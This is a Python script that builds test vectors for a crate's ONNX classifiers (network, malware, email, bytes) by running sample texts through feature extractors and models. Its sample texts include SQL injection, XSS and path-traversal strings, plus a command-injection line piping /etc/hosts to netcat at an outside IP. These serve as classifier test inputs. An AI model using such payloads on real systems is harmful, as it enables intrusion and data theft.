"""Rows of features and log-probabilities for the tests of `crates/engine-onnx`, by NumPy and onnxruntime 1.32.

    python models/classifiers/vectors.py
"""

import json
from pathlib import Path

import numpy as np
import onnxruntime

from features import Features

ROOT = Path(__file__).resolve().parents[2]
TEXTS = [
    "",
    "a",
    "nuria",
    "1' OR '1'='1' -- ",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "; cat /etc/hosts | nc 203.0.113.9 4444",
    "Grüße aus Köln — ☃ 42",
    "NtCreateFile NtWriteFile RegSetValueExA CreateRemoteThread NtClose NtClose",
    "GetSystemTimeAsFileTime LdrLoadDll LdrGetProcedureAddress NtOpenKey",
    "From: a@example.org\nSubject: You WON!!!\n\nClick here http://203.0.113.9/prize now, 100% free",
    "From: b@example.org\nSubject: Re: patch\n\nOn Monday the tests failed, see the log. > quoted",
    "\x00\x1f\x7f tabs\tand\r\nlines __init__ x_1",
]
SETTINGS = [Features("byte", 1, 3, 2048, 4096), Features("byte", 3, 4, 97, 20), Features("word", 1, 2, 4096, 65536),
            Features("word", 2, 3, 50, 30)]


def sparse(row):
    return [[int(place), int(row[place].view(np.uint32))] for place in np.flatnonzero(row)]


def image(text, side):
    pixels = np.zeros(side * side, dtype=np.float32)
    content = np.frombuffer(text.encode()[:side * side], dtype=np.uint8)
    pixels[:len(content)] = content / np.float32(255)
    return pixels.reshape(1, side, side)


def probabilities(name):
    session = onnxruntime.InferenceSession(str(ROOT / f"models/{name}/{name}.onnx"), providers=["CPUExecutionProvider"])
    described = json.loads(session.get_modelmeta().custom_metadata_map["weighbridge.classifier"])
    own = described["features"]
    if own["kind"] == "byte_image":
        inputs = {"image": np.stack([image(text, own["side"]) for text in TEXTS])}
    else:
        features = Features(own["unit"], own["from"], own["to"], own["buckets"], own["max_bytes"])
        inputs = {"features": features.matrix(TEXTS).toarray()}
    logits = session.run(None, inputs)[0].astype(np.float64)
    logits -= logits.max(axis=1, keepdims=True)
    return {"name": name, "log_probabilities": (logits - np.log(np.exp(logits).sum(axis=1, keepdims=True))).tolist()}


def main():
    rows = [{"settings": settings.settings(), "rows": [sparse(row) for row in settings.matrix(TEXTS).toarray()]}
            for settings in SETTINGS]
    vectors = {"texts": TEXTS, "features": rows, "classifiers": [probabilities(name) for name in ("network", "malware", "email", "bytes")]}
    (ROOT / "crates/engine-onnx/tests/it/vectors.json").write_text(json.dumps(vectors) + "\n")


if __name__ == "__main__":
    main()
